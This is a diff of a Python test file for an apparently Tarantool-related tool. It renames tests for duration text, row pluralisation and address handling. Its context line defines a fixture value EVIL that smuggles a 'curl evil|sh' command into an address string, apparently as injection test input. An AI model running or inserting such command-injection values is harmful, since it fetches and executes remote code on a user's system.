@@ -23,11 +23,11 @@ EVIL = "x; curl evil|sh #:1"
     ("seconds", "text"),
     [(0.04, "0.0 s"), (3.21, "3.2 s"), (59.6, "60 s"), (150, "2 min"), (7200, "2.0 h"), (200_000, "2.3 days")],
 )
-def test_a_span_of_time_is_told_in_the_unit_that_people_would_use(seconds: float, text: str) -> None:
+def test_duration_is_shown_in_a_readable_unit(seconds: float, text: str) -> None:
     assert seconds_text(seconds) == text
 
 
-def test_one_row_is_not_one_rows() -> None:
+def test_one_row_is_singular() -> None:
     assert (rows_text(1), rows_text(2)) == ("1 row", "2 rows")
 
 
@@ -39,7 +39,7 @@ def test_a_position_is_sorted_by_replica() -> None:
     "address",
     ["db1:3301", "10.0.0.1:3301", "[fe80::1%eth0]:3301", "my_db-1.example.org:1", "unix/:/run/tarantool/a-1.sock"],
 )
-def test_an_address_is_put_into_a_command_as_it_is(address: str) -> None:
+def test_address_in_a_command_is_unchanged(address: str) -> None:
     assert for_command(address) == address
 
 
